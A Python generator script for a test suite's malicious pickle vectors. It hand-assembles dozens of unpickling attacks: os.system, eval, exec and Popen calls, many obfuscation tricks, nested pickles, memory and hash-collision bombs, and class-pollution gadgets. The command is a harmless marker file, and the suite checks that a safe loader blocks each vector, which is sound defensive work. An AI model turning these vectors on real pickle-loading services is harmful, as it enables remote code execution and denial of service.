"""Generate the malicious pickle vectors in this directory (run: python make_vectors.py).

Every vector is assembled opcode by opcode from the byte strings below: nothing here
pickles a real dangerous object or runs any payload. The ``exec`` vectors would create
the file ``safeops-pwned-marker`` in the current directory if a plain ``pickle.loads``
ran them; the tests load each one from inside an empty temporary directory and assert
that the file never appears. ``dos`` vectors would exhaust memory or CPU; ``gadget``
vectors would change process state (a class attribute) or call code by other means.

manifest.json (written next to the .pkl files) lists each vector's file, class,
technique and source; README.md carries the same table for people.
"""

from __future__ import annotations

import json
import pickle
import struct
import uuid
from pathlib import Path

HERE = Path(__file__).resolve().parent
MARKER = "safeops-pwned-marker"
CMD = f"touch {MARKER}"
PYCODE = f"open('{MARKER}', 'w').close()"
EVAL_CODE = f"__import__('os').system('{CMD}')"

# --- a tiny assembler -------------------------------------------------------------------
MARK, STOP, POP, DUP = b"(", b".", b"0", b"2"
TUPLE, TUPLE1, TUPLE2, TUPLE3, EMPTY_TUPLE = b"t", b"\x85", b"\x86", b"\x87", b")"
REDUCE, BUILD, NEWOBJ, NEWOBJ_EX, STACK_GLOBAL = b"R", b"b", b"\x81", b"\x92", b"\x93"
EMPTY_LIST, EMPTY_DICT, APPENDS, SETITEM, LIST = b"]", b"}", b"e", b"s", b"l"
NONE, NEWTRUE, MEMOIZE, OBJ = b"N", b"\x88", b"\x94", b"o"


def proto(version: int) -> bytes:
    return b"\x80" + bytes([version])


def glob(module: str, name: str) -> bytes:  # GLOBAL (protocol 0 text form)
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def inst(module: str, name: str) -> bytes:  # INST (protocol 0)
    return b"i" + module.encode() + b"\n" + name.encode() + b"\n"


def string0(text: str) -> bytes:  # STRING (protocol 0, quoted)
    return b"S'" + text.encode().replace(b"'", b"\\'") + b"'\n"


def binunicode(text: str) -> bytes:  # BINUNICODE (protocol 1+)
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def short_unicode(text: str) -> bytes:  # SHORT_BINUNICODE (protocol 4+)
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def short_bytes(raw: bytes) -> bytes:  # SHORT_BINBYTES (protocol 3+)
    return b"C" + bytes([len(raw)]) + raw


def binbytes(raw: bytes) -> bytes:  # BINBYTES (protocol 3+)
    return b"B" + struct.pack("<I", len(raw)) + raw


def bytearray8(raw: bytes) -> bytes:  # BYTEARRAY8 (protocol 5)
    return b"\x96" + struct.pack("<Q", len(raw)) + raw


def stack_global(module: str, name: str) -> bytes:
    return short_unicode(module) + short_unicode(name) + STACK_GLOBAL


def binput(index: int) -> bytes:
    return b"q" + bytes([index])


def binget(index: int) -> bytes:
    return b"h" + bytes([index])


def long1(value: int) -> bytes:
    raw = value.to_bytes((value.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


def call_text(module: str, name: str, *args: str) -> bytes:
    """module.name(*args) in protocol 0: GLOBAL, MARK, STRINGs, TUPLE, REDUCE."""
    return glob(module, name) + MARK + b"".join(string0(a) for a in args) + TUPLE + REDUCE


# The inner payload reused by the nested vectors.
P0_OS_SYSTEM = call_text("os", "system", CMD) + STOP

SOURCE_DOCS = "https://docs.python.org/3/library/pickle.html (the security warning)"
SOURCE_SOUR = "Marco Slaviero, 'Sour Pickles', Black Hat USA 2011"
SOURCE_FICKLING = "https://github.com/trailofbits/fickling (obfuscation patterns)"
OWN = "own research"
REVIEW = "attack review 2026-11-28, finding "
SESSION3 = "own research (legacy fast-path session, 2026-11-28)"
SESSION3_REVIEW = "review of the legacy fast-path session's changes, 2026-11-28"


class _Reduce:
    """Pickles as func(*args): how the vectors below write calls CPython's pickler would
    not (pickle.dumps of this object names only func, never this class)."""

    def __init__(self, func: object, *args: object) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self.func, self.args


def reduced(func: object, *args: object) -> bytes:
    """func(*args) at protocol 2."""
    return pickle.dumps(_Reduce(func, *args), protocol=2)
#: 100 ints k*(2**61-1): distinct values that all hash to 0.
COLLIDING = b"".join(long1(k * (2**61 - 1)) for k in range(1, 101))
#: The same ints as keys of (key, None) pairs.
COLLIDING_PAIRS = b"".join(long1(k * (2**61 - 1)) + NONE + TUPLE2 for k in range(1, 101))

VECTORS: list[tuple[str, str, str, str, bytes]] = [
    # (name, class, technique, source, bytes)
    ("p0_global_os_system", "exec", "GLOBAL os.system + REDUCE, protocol 0", SOURCE_SOUR,
     P0_OS_SYSTEM),
    ("p0_posix_system_alias", "exec", "posix.system: the module os.system really lives in",
     SOURCE_SOUR, call_text("posix", "system", CMD) + STOP),
    ("p0_nt_system_alias", "exec",
     "nt.system: the Windows alias of os.system (runs on Windows)", SOURCE_SOUR,
     call_text("nt", "system", CMD) + STOP),
    ("p0_py2_builtin_eval", "exec", "__builtin__.eval (Python 2 name, mapped to builtins)",
     SOURCE_DOCS, call_text("__builtin__", "eval", EVAL_CODE) + STOP),
    ("p0_io_open_write", "exec", "io.open(marker, 'w') creates a file without any shell",
     OWN, call_text("io", "open", MARKER, "w") + STOP),
    ("p0_runpy_run_path", "gadget", "runpy.run_path runs a file (here a missing one)", OWN,
     call_text("runpy", "run_path", MARKER + ".py") + STOP),
    ("p0_commands_getoutput_py2", "exec", "commands.getoutput (Python 2; maps to subprocess)",
     OWN, call_text("commands", "getoutput", CMD) + STOP),
    ("p0_pty_spawn", "exec", "pty.spawn([argv]) built with LIST", OWN,
     glob("pty", "spawn") + MARK + MARK + string0("touch") + string0(MARKER) + LIST + TUPLE
     + REDUCE + STOP),
    ("p0_inst_os_system", "exec", "INST opcode: instantiate os.system with MARK arguments",
     SOURCE_SOUR, MARK + string0(CMD) + inst("os", "system") + STOP),
    ("p0_text_memo_stack_global", "exec",
     "protocol 0 PUT/GET memo feeding STACK_GLOBAL (mixed-protocol opcodes)", SOURCE_FICKLING,
     string0("os") + b"p0\n" + POP + string0("system") + b"p1\n" + POP + b"g0\ng1\n"
     + STACK_GLOBAL + MARK + string0(CMD) + TUPLE + REDUCE + STOP),
    ("p0_persistent_id", "gadget", "PERSID: hands an attacker string to persistent_load", OWN,
     b"P" + CMD.encode() + b"\n" + STOP),
    ("p1_obj_os_system", "exec", "OBJ opcode with os.system as the class", SOURCE_SOUR,
     MARK + glob("os", "system") + binunicode(CMD) + OBJ + STOP),
    ("p1_builtins_exec", "exec", "builtins.exec of Python source", SOURCE_DOCS,
     glob("builtins", "exec") + MARK + binunicode(PYCODE) + TUPLE + REDUCE + STOP),
    ("p1_copyreg_reconstructor_popen", "exec",
     "copy_reg._reconstructor(Popen, Popen, argv) calls Popen.__init__", OWN,
     glob("copy_reg", "_reconstructor") + MARK + glob("subprocess", "Popen")
     + glob("subprocess", "Popen") + EMPTY_LIST + MARK + binunicode("touch")
     + binunicode(MARKER) + APPENDS + TUPLE + REDUCE + STOP),
    ("p2_subprocess_popen", "exec", "subprocess.Popen(argv list)", SOURCE_DOCS,
     proto(2) + glob("subprocess", "Popen") + MARK + EMPTY_LIST + MARK + binunicode("touch")
     + binunicode(MARKER) + APPENDS + TUPLE + REDUCE + STOP),
    ("p2_newobj_popen", "gadget", "NEWOBJ with a non-allowed class (Popen.__new__)", OWN,
     proto(2) + glob("subprocess", "Popen") + MARK + binunicode(CMD) + TUPLE + NEWOBJ + STOP),
    ("p2_getattr_chain", "exec", "getattr(__import__('os'), 'system')(cmd)", SOURCE_FICKLING,
     proto(2) + glob("builtins", "getattr") + MARK + glob("builtins", "__import__") + MARK
     + binunicode("os") + TUPLE + REDUCE + binunicode("system") + TUPLE + REDUCE + MARK
     + binunicode(CMD) + TUPLE + REDUCE + STOP),
    ("p2_importlib_getattr", "exec", "getattr(importlib.import_module('os'), 'system')(cmd)",
     OWN, proto(2) + glob("builtins", "getattr") + MARK + glob("importlib", "import_module")
     + MARK + binunicode("os") + TUPLE + REDUCE + binunicode("system") + TUPLE + REDUCE
     + MARK + binunicode(CMD) + TUPLE + REDUCE + STOP),
    ("p2_ctypes_libc_system", "exec", "getattr(ctypes.CDLL(None), 'system')(b'cmd')", OWN,
     proto(2) + glob("builtins", "getattr") + MARK + glob("ctypes", "CDLL") + MARK + NONE
     + TUPLE + REDUCE + binunicode("system") + TUPLE + REDUCE + MARK
     + short_bytes(CMD.encode()) + TUPLE + REDUCE + STOP),
    ("p2_posixsubprocess_fork_exec", "gadget",
     "_posixsubprocess.fork_exec called directly (shape only: real calls need 23 arguments)",
     OWN, proto(2) + glob("_posixsubprocess", "fork_exec") + MARK + binunicode(CMD) + TUPLE
     + REDUCE + STOP),
    ("p2_marshal_code_object", "gadget",
     "types.FunctionType(marshal.loads(code), {})() (shape only: the code bytes are a stub)",
     SOURCE_FICKLING,
     proto(2) + glob("types", "FunctionType") + MARK + glob("marshal", "loads")
     + MARK + short_bytes(b"\xe3" + b"\x00" * 40) + TUPLE + REDUCE + EMPTY_DICT + TUPLE
     + REDUCE + EMPTY_TUPLE + REDUCE + STOP),
    ("p2_build_setstate_injection", "exec",
     "BUILD {'__setstate__': os.system} then BUILD cmd calls the injected __setstate__",
     OWN, proto(2) + glob("collections", "ChainMap") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT
     + binunicode("__setstate__") + glob("os", "system") + SETITEM + BUILD + binunicode(CMD)
     + BUILD + STOP),
    ("p2_build_plants_setstate_of_allowed_type", "dos",
     "BUILD {'__setstate__': bytearray}, then BUILD 10**10 calls bytearray(10**10)", OWN,
     proto(2) + glob("collections", "ChainMap") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT
     + binunicode("__setstate__") + glob("builtins", "bytearray") + SETITEM + BUILD
     + long1(10**10) + BUILD + STOP),
    ("p2_build_plants_append", "dos",
     "BUILD {'append': bytearray}, then APPEND 10**10 calls inst.append(10**10)", OWN,
     proto(2) + glob("collections", "ChainMap") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT
     + binunicode("append") + glob("builtins", "bytearray") + SETITEM + BUILD
     + long1(10**10) + b"a" + STOP),
    ("p2_build_class_pollution", "gadget",
     "BUILD (None, {'__len__': int}) on the ChainMap class sets a class attribute", OWN,
     proto(2) + glob("collections", "ChainMap") + NONE + EMPTY_DICT + binunicode("__len__")
     + glob("builtins", "int") + SETITEM + TUPLE2 + BUILD + STOP),
    ("p2_reconstructor_bytes_bomb", "dos",
     "copyreg._reconstructor(bytes, bytes, 10**10): ten gigabytes from a few bytes", OWN,
     proto(2) + glob("copyreg", "_reconstructor") + MARK + glob("builtins", "bytes")
     + glob("builtins", "bytes") + long1(10**10) + TUPLE + REDUCE + STOP),
    ("p2_bytearray_int_bomb", "dos", "bytearray(10**10) with an allow-listed type", OWN,
     proto(2) + glob("builtins", "bytearray") + MARK + long1(10**10) + TUPLE + REDUCE + STOP),
    ("p2_tuple_dag_hash_bomb", "dos",
     "60 levels of shared tuples used as a dict key: 2**60 hash steps", OWN,
     proto(2) + b"K\x01K\x01" + TUPLE2 + binput(0)
     + b"".join(binget(lvl) + binget(lvl) + TUPLE2 + binput(lvl + 1) for lvl in range(60))
     + POP + EMPTY_DICT + binget(60) + NONE + SETITEM + STOP),
    ("p2_extension_registry", "gadget", "EXT1: a global chosen from the copyreg registry",
     OWN, proto(2) + b"\x82\x01" + STOP),
    ("p3_nested_pickle_bytes", "exec", "pickle.loads(b'<pickle calling os.system>')",
     SOURCE_FICKLING, proto(3) + glob("pickle", "loads") + binbytes(P0_OS_SYSTEM) + TUPLE1
     + REDUCE + STOP),
    ("p2_nested_pickle_in_text", "exec",
     "_pickle.loads(_codecs.encode('<pickle>', 'latin1')): allowed encode feeding loads", OWN,
     proto(2) + glob("_pickle", "loads") + glob("_codecs", "encode")
     + binunicode(P0_OS_SYSTEM.decode("latin-1")) + binunicode("latin1") + TUPLE2 + REDUCE
     + TUPLE1 + REDUCE + STOP),
    ("p4_stack_global_eval", "exec", "STACK_GLOBAL builtins.eval", SOURCE_DOCS,
     proto(4) + stack_global("builtins", "eval") + MEMOIZE + short_unicode(EVAL_CODE) + TUPLE1
     + REDUCE + STOP),
    ("p4_memo_indirection", "exec", "names memoized early, fetched with BINGET later",
     SOURCE_FICKLING, proto(4) + short_unicode("os") + MEMOIZE + POP + short_unicode("system")
     + MEMOIZE + POP + EMPTY_LIST + POP + binget(0) + binget(1) + STACK_GLOBAL
     + short_unicode(CMD) + TUPLE1 + REDUCE + STOP),
    ("p4_memo_overwrite", "exec",
     "memo slots first hold 'builtins'/'list', then are overwritten with 'os'/'system'", OWN,
     proto(4) + short_unicode("builtins") + binput(0) + POP + short_unicode("list") + binput(1)
     + POP + short_unicode("os") + binput(0) + POP + short_unicode("system") + binput(1) + POP
     + binget(0) + binget(1) + STACK_GLOBAL + short_unicode(CMD) + TUPLE1 + REDUCE + STOP),
    ("p4_dup_names", "exec", "DUP and POP juggling around STACK_GLOBAL", OWN,
     proto(4) + short_unicode("posix") + DUP + POP + short_unicode("system") + STACK_GLOBAL
     + short_unicode(CMD) + TUPLE1 + REDUCE + STOP),
    ("p4_functools_partial", "exec", "functools.partial(os.system, cmd)()", OWN,
     proto(4) + stack_global("functools", "partial") + stack_global("os", "system")
     + short_unicode(CMD) + TUPLE2 + REDUCE + EMPTY_TUPLE + REDUCE + STOP),
    ("p4_operator_attrgetter", "exec", "operator.attrgetter('system')(__import__('os'))(cmd)",
     OWN, proto(4) + stack_global("operator", "attrgetter") + short_unicode("system") + TUPLE1
     + REDUCE + stack_global("builtins", "__import__") + short_unicode("os") + TUPLE1 + REDUCE
     + TUPLE1 + REDUCE + short_unicode(CMD) + TUPLE1 + REDUCE + STOP),
    ("p4_operator_methodcaller", "exec",
     "operator.methodcaller('system', cmd)(__import__('os'))", OWN,
     proto(4) + stack_global("operator", "methodcaller") + short_unicode("system")
     + short_unicode(CMD) + TUPLE2 + REDUCE + stack_global("builtins", "__import__")
     + short_unicode("os") + TUPLE1 + REDUCE + TUPLE1 + REDUCE + STOP),
    ("p4_newobj_ex_popen", "gadget", "NEWOBJ_EX subprocess.Popen with keyword arguments", OWN,
     proto(4) + stack_global("subprocess", "Popen") + short_unicode(CMD) + TUPLE1 + EMPTY_DICT
     + short_unicode("shell") + NEWTRUE + SETITEM + NEWOBJ_EX + STOP),
    ("p4_map_inside_list", "exec", "list(map(os.system, [cmd])): allowed list() drives map",
     OWN, proto(4) + stack_global("builtins", "list") + stack_global("builtins", "map")
     + stack_global("os", "system") + EMPTY_LIST + short_unicode(CMD) + b"a" + TUPLE2 + REDUCE
     + TUPLE1 + REDUCE + STOP),
    ("p4_memo_index_bomb", "dos", "LONG_BINPUT 0x10000000: CPython allocates 4 GiB of memo",
     OWN, proto(4) + NONE + b"r" + struct.pack("<I", 0x10000000) + STOP),
    ("p5_computed_names", "exec",
     "STACK_GLOBAL names built by str(b'\\x00o\\x00s', 'utf-16-be') (string ops)", OWN,
     proto(5) + stack_global("builtins", "str") + MEMOIZE + short_bytes(b"\x00o\x00s")
     + short_unicode("utf-16-be") + TUPLE2 + REDUCE + binget(0)
     + short_bytes("system".encode("utf-16-be")) + short_unicode("utf-16-be") + TUPLE2 + REDUCE
     + STACK_GLOBAL + short_unicode(CMD) + TUPLE1 + REDUCE + STOP),
    ("p5_nested_pickle_bytearray", "exec", "pickle.loads(bytearray8(<pickle>))", OWN,
     proto(5) + stack_global("pickle", "loads") + bytearray8(P0_OS_SYSTEM) + TUPLE1 + REDUCE
     + STOP),
    # --- attack review 2026-11-28 (tests/vectors/pickle/README.md lists the finding) ---
    ("p4_newobj_ex_bytes_source_kwarg", "dos",
     "NEWOBJ_EX bytes(source=10**10): keyword arguments bypassed the int-argument rule",
     REVIEW + "L1", proto(4) + stack_global("builtins", "bytes") + EMPTY_TUPLE + EMPTY_DICT
     + short_unicode("source") + long1(10**10) + SETITEM + NEWOBJ_EX + STOP),
    ("p4_newobj_ex_str_encoding_kwarg", "gadget",
     "NEWOBJ_EX str(object=b, encoding='idna'): a codec chosen by keyword", REVIEW + "L1",
     proto(4) + stack_global("builtins", "str") + EMPTY_TUPLE + EMPTY_DICT + MARK
     + short_unicode("object") + short_bytes(b"abc") + short_unicode("encoding")
     + short_unicode("idna") + b"u" + NEWOBJ_EX + STOP),
    ("p2_uuid_build_int_list", "gadget",
     "UUID with BUILD {'int': [1, 2]}: orjson reads the list's internals (heap pointer leak)",
     REVIEW + "L6", proto(2) + glob("uuid", "UUID") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT
     + binunicode("int") + EMPTY_LIST + MARK + b"K\x01K\x02" + APPENDS + SETITEM + BUILD
     + STOP),
    ("p2_uuid_build_int_too_large", "gadget",
     "UUID with BUILD {'int': 2**200}: encoders raise SystemError/OverflowError",
     REVIEW + "L6", proto(2) + glob("uuid", "UUID") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT
     + binunicode("int") + long1(2**200) + SETITEM + BUILD + STOP),
    ("p0_uuid_build_int_negative", "gadget",
     "protocol 0 UUID via copyreg._reconstructor with state {'int': -1}", REVIEW + "L6",
     glob("copy_reg", "_reconstructor") + MARK + glob("uuid", "UUID")
     + glob("__builtin__", "object") + NONE + TUPLE + REDUCE + MARK + b"d" + b"Vint\nI-1\n"
     + SETITEM + BUILD + STOP),
    ("p2_uuid_without_state", "gadget",
     "NEWOBJ UUID() never given state: a UUID object with no .int", REVIEW + "L6",
     proto(2) + glob("uuid", "UUID") + EMPTY_TUPLE + NEWOBJ + STOP),
    ("p2_counter_build_extra_attribute", "gadget",
     "BUILD {'most_common': 1} on a Counter: state that is not the type's pickled form",
     REVIEW + "L6", proto(2) + glob("collections", "Counter") + EMPTY_TUPLE + REDUCE
     + EMPTY_DICT + binunicode("most_common") + b"K\x01" + SETITEM + BUILD + STOP),
    ("p4_list_of_memoised_text", "dos",
     "list(S) of one memoised text constant, repeated: each call expands it (1 MB -> 386 MB)",
     REVIEW + "L3", proto(4) + stack_global("builtins", "list") + MEMOIZE
     + short_unicode("a" * 200) + MEMOIZE + POP + EMPTY_LIST + MARK
     + (binget(0) + binget(1) + TUPLE1 + REDUCE) * 20 + APPENDS + STOP),
    ("p4_bytearray_of_memoised_bytes", "dos",
     "bytearray(B) of one memoised bytes constant, repeated: copies exceed the input",
     REVIEW + "L3", proto(4) + stack_global("builtins", "bytearray") + MEMOIZE
     + short_bytes(b"x" * 200) + MEMOIZE + POP + EMPTY_LIST + MARK
     + (binget(0) + binget(1) + TUPLE1 + REDUCE) * 20 + APPENDS + STOP),
    ("p4_set_of_colliding_ints", "dos",
     "a set of 100 ints k*(2**61-1) that all hash to 0 (quadratic insertion)", REVIEW + "L4",
     proto(4) + b"\x8f" + MARK + b"".join(long1(k * (2**61 - 1)) for k in range(1, 101))
     + b"\x90" + STOP),
    ("p4_dict_of_colliding_tuple_keys", "dos",
     "a dict whose 100 keys are tuples of colliding ints (equal tuple hashes)", REVIEW + "L4",
     proto(4) + EMPTY_DICT + MARK
     + b"".join(long1(k * (2**61 - 1)) + TUPLE1 + NONE for k in range(1, 101)) + b"u" + STOP),
    # Containers a *call* fills, which the walk had not counted (fast-path session of
    # 2026-11-28): protocols 0-3 write a set as set([...]), so 32,000 colliding members
    # made legacy.loads spend 4.4 s (1,000,000 would take hours).
    ("p2_set_call_of_colliding_ints", "dos",
     "set([...]) of 100 ints k*(2**61-1) (how protocols 0-3 write a set)", SESSION3,
     proto(2) + glob("__builtin__", "set") + EMPTY_LIST + MARK + COLLIDING + APPENDS + TUPLE1
     + REDUCE + STOP),
    ("p2_frozenset_call_of_colliding_ints", "dos",
     "frozenset([...]) of 100 colliding ints", SESSION3,
     proto(2) + glob("__builtin__", "frozenset") + EMPTY_LIST + MARK + COLLIDING + APPENDS
     + TUPLE1 + REDUCE + STOP),
    ("p2_dict_call_of_colliding_pairs", "dos",
     "dict([(k, None), ...]) with 100 colliding keys (a crafted shape)", SESSION3,
     proto(2) + glob("__builtin__", "dict") + EMPTY_LIST + MARK + COLLIDING_PAIRS + APPENDS
     + TUPLE1 + REDUCE + STOP),
    ("p4_ordereddict_setitems_colliding", "dos",
     "OrderedDict() filled by SETITEMS with 100 colliding keys (how pickle writes it)",
     SESSION3, proto(4) + stack_global("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE
     + MARK + b"".join(long1(k * (2**61 - 1)) + NONE for k in range(1, 101)) + b"u" + STOP),
    ("p4_counter_call_of_colliding_ints", "dos",
     "Counter([...]) of 100 colliding ints: it counts (hashes) every member", SESSION3,
     proto(4) + stack_global("collections", "Counter") + EMPTY_LIST + MARK + COLLIDING
     + APPENDS + TUPLE1 + REDUCE + STOP),
    ("p4_defaultdict_setitems_colliding", "dos",
     "defaultdict(None) filled by SETITEMS with 100 colliding keys", SESSION3,
     proto(4) + stack_global("collections", "defaultdict") + NONE + TUPLE1 + REDUCE
     + MARK + b"".join(long1(k * (2**61 - 1)) + NONE for k in range(1, 101)) + b"u" + STOP),
    # Keys whose colliding hashes come out of calls (review of the same session): the
    # walk computes them (numbers, tuples, UUID state) or counts them as unknown.
    ("p2_set_of_colliding_uuids", "dos",
     "a set of 100 UUIDs whose ints k*(2**61-1) all hash to 0", SESSION3_REVIEW,
     reduced(set, [uuid.UUID(int=k * (2**61 - 1)) for k in range(1, 101)])),
    ("p2_set_of_list_call_of_colliding_ints", "dos",
     "set(list((...))): the members pass through another call first", SESSION3_REVIEW,
     reduced(set, _Reduce(list, tuple(k * (2**61 - 1) for k in range(1, 101))))),
    ("p2_set_of_colliding_complex", "dos",
     "a set of 100 complex(-1000003*j, j), which all hash to 0", SESSION3_REVIEW,
     reduced(set, [_Reduce(complex, float(-1000003 * j), float(j)) for j in range(1, 101)])),
    ("p2_set_of_frozenset_calls", "dos",
     "a set of 100 frozenset([0, k*(2**61-1)]) (how protocols 0-3 write frozensets)",
     SESSION3_REVIEW,
     reduced(set, [_Reduce(frozenset, [0, k * (2**61 - 1)]) for k in range(1, 101)])),
    ("p2_set_of_int_calls", "dos",
     "a set of 100 int('k*(2**61-1)') built by calls", SESSION3_REVIEW,
     reduced(set, [_Reduce(int, str(k * (2**61 - 1))) for k in range(1, 101)])),
    ("p2_dict_call_of_list_pairs_with_list_values", "dos",
     "dict([[k*(2**61-1), []], ...]): two-item lists with an unhashable value are pairs",
     SESSION3_REVIEW, reduced(dict, [[k * (2**61 - 1), []] for k in range(1, 101)])),
    ("p2_imaplib_imap4_stream", "exec",
     "imaplib.IMAP4_stream(cmd): a stdlib class whose constructor runs a shell command",
     REVIEW + "L7", proto(2) + glob("imaplib", "IMAP4_stream") + binunicode(CMD) + TUPLE1
     + REDUCE + STOP),
    ("p2_doctest_debug_script", "gadget",
     "doctest.debug_script(src): exec of source under pdb (stops at pdb's prompt first)",
     REVIEW + "L7", proto(2) + glob("doctest", "debug_script") + binunicode(PYCODE) + TUPLE1
     + REDUCE + STOP),
    ("p2_logging_config_dictconfig", "gadget",
     "logging.config.dictConfig: '()' factories import and call anything (shape only)",
     REVIEW + "L7", proto(2) + glob("logging.config", "dictConfig") + EMPTY_DICT
     + binunicode("version") + b"K\x01" + SETITEM + TUPLE1 + REDUCE + STOP),
    ("p4_str_with_idna_codec", "gadget",
     "str(b'abc', 'idna'): the data chooses (and imports) a codec", REVIEW + "L2",
     proto(4) + stack_global("builtins", "str") + short_bytes(b"abc") + short_unicode("idna")
     + TUPLE2 + REDUCE + STOP),
    ("p4_bytes_with_zlib_codec", "gadget",
     "bytes('abc', 'zlib_codec'): a compression codec named by the data", REVIEW + "L2",
     proto(4) + stack_global("builtins", "bytes") + short_unicode("abc")
     + short_unicode("zlib_codec") + TUPLE2 + REDUCE + STOP),
]  # fmt: skip


def main() -> None:
    manifest = []
    for name, cls, technique, source, payload in VECTORS:
        (HERE / f"{name}.pkl").write_bytes(payload)
        manifest.append(
            {"file": f"{name}.pkl", "class": cls, "technique": technique, "source": source}
        )
    (HERE / "manifest.json").write_text(json.dumps(manifest, indent=2) + "\n", encoding="utf-8")
    rows = "\n".join(
        f"| `{entry['file']}` | {entry['class']} | {entry['technique']} | {entry['source']} |"
        for entry in manifest
    )
    readme = (HERE / "README.md").read_text(encoding="utf-8")
    head = readme.split("<!-- vectors -->")[0]
    (HERE / "README.md").write_text(
        head + "<!-- vectors -->\n| file | class | technique | source |\n|---|---|---|---|\n"
        + rows + "\n",
        encoding="utf-8",
    )


if __name__ == "__main__":
    main()
